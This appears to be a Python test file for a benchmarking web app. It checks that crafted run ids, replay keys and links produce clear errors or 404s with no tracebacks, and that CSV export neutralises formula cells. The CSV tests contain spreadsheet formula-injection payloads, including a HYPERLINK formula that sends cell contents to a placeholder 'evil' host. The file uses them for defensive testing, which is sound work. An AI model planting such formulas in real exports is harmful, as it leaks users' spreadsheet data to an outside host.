"""What a hostile visitor can type into a link, a route or a bundle, and what they get back: a
clear message or a 404, never a traceback with the server's paths, never a formula in a CSV."""

import argparse
import io

import pandas as pd
import pytest
from starlette.applications import Starlette
from starlette.testclient import TestClient
from streamlit.testing.v1 import AppTest
from test_pages import APP, record_probe

from app_pages.run_screen import feed as feed_routes
from core.cli.common import run_id_arg
from core.runs.bundle import BundleError
from core.runs.store import MAX_ID, id_from_text
from core.view.replay import load_recording
from core.view.safe_text import csv_cell, csv_text

IMPOSSIBLE_IDS = ["²", "١٢", "0", "-1", "+3", " 7", "1e3", str(MAX_ID + 1), "9" * 20, "9" * 5000, ""]


@pytest.mark.parametrize("text", IMPOSSIBLE_IDS, ids=lambda t: repr(t[:24]))
def test_an_id_is_ascii_digits_naming_a_possible_row(text):
    assert id_from_text(text) is None


@pytest.mark.parametrize("text", [*IMPOSSIBLE_IDS, "1_000", "7\x1b[2J"], ids=lambda t: repr(t[:24]))
def test_the_cli_reads_a_run_id_as_links_and_routes_do(text):
    with pytest.raises(argparse.ArgumentTypeError, match="is not a run id") as refused:
        run_id_arg(text)
    assert len(str(refused.value)) < 160 and "\x1b" not in str(refused.value)  # one short line, no escapes
    assert run_id_arg("42") == 42


def test_a_possible_id_reads_as_its_number():
    assert id_from_text("42") == 42 and id_from_text(str(MAX_ID)) == MAX_ID and id_from_text(7) == 7


def test_the_feed_route_answers_404_for_any_impossible_id(store, monkeypatch):
    monkeypatch.setattr(feed_routes, "_served", type(feed_routes._served)())
    http = TestClient(Starlette(routes=feed_routes.routes()), raise_server_exceptions=True)
    for text in ("%C2%B2", "9" * 4301, str(MAX_ID + 1), "abc"):
        response = http.get(f"/api/live/{text}")
        assert response.status_code == 404, text
        assert response.json() == {"error": "No such run."}  # the crafted id is not echoed back


@pytest.mark.parametrize("link", ["²", "9" * 30, "1e3"])
def test_a_crafted_run_link_shows_the_page_not_a_traceback(store, link):
    record_probe(store)
    at = AppTest.from_file(APP, default_timeout=60)
    at.query_params["run"] = link
    at.run()
    assert not at.exception, at.exception


@pytest.mark.parametrize("key", ["run:²", "run:99999999999999999999", "run:" + "9" * 5000], ids=lambda k: k[:24])
def test_a_crafted_replay_key_is_a_clear_message(store, key):
    with pytest.raises(BundleError, match="not a recording"):
        load_recording(key, store)


def test_a_crafted_replay_link_shows_the_page_not_a_traceback(store):
    record_probe(store)
    at = AppTest.from_file(APP, default_timeout=60)
    at.query_params["replay"] = "run:99999999999999999999"
    at.run()
    assert not at.exception, at.exception


def test_csv_cells_that_would_start_a_formula_are_text():
    for cell in ('=HYPERLINK("http://x","y")', "+1+2", "-2+3", "@SUM(A1)", "\t=1", "\r=1"):
        assert csv_cell(cell) == "'" + cell
    assert csv_cell("NVIDIA H200") == "NVIDIA H200" and csv_cell(-1.5) == -1.5


def test_the_runs_table_csv_neutralises_a_bundles_device_name():
    frame = pd.DataFrame({"device": ['=HYPERLINK("http://evil/?"&A1,"x")', "CPU"], "speedup": [-0.5, 1.2]})
    back = pd.read_csv(io.StringIO(csv_text(frame)))
    assert back["device"].tolist() == ['\'=HYPERLINK("http://evil/?"&A1,"x")', "CPU"]
    assert back["speedup"].tolist() == [-0.5, 1.2]  # numbers stay numbers


def test_the_hosted_image_hides_error_details_from_visitors():
    from support import ROOT

    with open(f"{ROOT}/Dockerfile") as fh:
        assert "STREAMLIT_CLIENT_SHOW_ERROR_DETAILS=none" in fh.read()
